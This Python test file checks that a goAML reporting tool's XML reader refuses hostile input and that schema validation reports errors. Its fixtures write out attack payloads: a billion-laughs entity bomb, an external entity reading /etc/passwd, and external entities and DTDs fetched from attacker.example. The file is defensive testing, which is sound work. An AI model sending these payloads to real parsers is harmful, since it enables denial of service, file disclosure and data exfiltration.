"""Hostile XML is refused with a clear message; validation against an XSD reports errors."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.report.goaml.builders import every_side_case
from tests.report.goaml.conftest import SUBMITTED
from tipflow.errors import ConfigError, DatasetError
from tipflow.report.goaml.profile import FiuProfile
from tipflow.report.goaml.reader import read_goaml
from tipflow.report.goaml.safe_xml import parse_xml
from tipflow.report.goaml.validate import validate_goaml
from tipflow.report.goaml.writer import report_bytes

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE report [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<report><reason>&lol9;</reason></report>
"""
LOCAL_FILE = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<report><reason>&xxe;</reason></report>
"""
NETWORK = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>
<report><reason>&xxe;</reason></report>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE report SYSTEM "http://attacker.example/report.dtd">
<report><reason>hello</reason></report>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<report/>
"""
PLAIN_DTD = """<?xml version="1.0"?>
<!DOCTYPE report>
<report><reason>hello</reason></report>
"""


@pytest.mark.parametrize(
    ("document", "words"),
    [
        (BILLION_LAUGHS, ["entity 'lol'", "XML bombs"]),
        (LOCAL_FILE, ["external entity 'xxe'", "file:///etc/passwd", "refused"]),
        (NETWORK, ["external entity 'xxe'", "http://attacker.example/steal", "refused"]),
        (EXTERNAL_DTD, ["http://attacker.example/report.dtd", "refused"]),
        (PARAMETER_ENTITY, ["remote", "refused"]),
        (PLAIN_DTD, ["DOCTYPE", "refused"]),
        ("<report><reason>unclosed</report>", ["not well-formed XML"]),
        ("", ["not well-formed XML"]),
    ],
)
def test_hostile_or_broken_xml_is_refused_naming_the_file(
    tmp_path: Path, document: str, words: list[str]
) -> None:
    path = tmp_path / "hostile.xml"
    path.write_text(document, "utf-8")
    with pytest.raises(DatasetError) as failure:
        read_goaml(path)
    message = str(failure.value)
    assert message.startswith(str(path))
    for word in words:
        assert word in message
    assert "root:" not in message  # /etc/passwd was never read


def test_a_missing_file_is_a_dataset_error(tmp_path: Path) -> None:
    with pytest.raises(DatasetError, match="cannot be read"):
        read_goaml(tmp_path / "absent.xml")


def test_plain_xml_parses() -> None:
    root = parse_xml(
        b"<?xml version='1.0' encoding='UTF-8'?><report><!-- c --><a>x</a></report>", "t"
    )
    assert root.tag == "report" and root.findtext("a") == "x"


def test_validate_reports_errors_with_lines(
    uae_profile: FiuProfile, uae_xsd: Path, tmp_path: Path
) -> None:
    data = report_bytes(every_side_case(), uae_profile, submitted=SUBMITTED)
    assert validate_goaml(data, uae_xsd) == []
    path = tmp_path / "report.xml"
    path.write_bytes(
        data.replace(b"<report_code>STR</report_code>", b"<report_code>XX</report_code>")
    )
    errors = validate_goaml(path, uae_xsd)
    assert len(errors) == 1
    assert errors[0].startswith("line 7:") and "report_code" in errors[0]
    with pytest.raises(DatasetError, match="DOCTYPE"):
        validate_goaml(PLAIN_DTD.encode(), uae_xsd)


def test_an_unusable_schema_is_a_config_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.xsd"
    bad.write_text(
        "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema'><xs:nonsense/></xs:schema>"
    )
    with pytest.raises(ConfigError, match="not a usable XML schema"):
        validate_goaml(b"<report/>", bad)
    with pytest.raises(ConfigError, match="not a usable XML schema"):
        validate_goaml(b"<report/>", tmp_path / "absent.xsd")
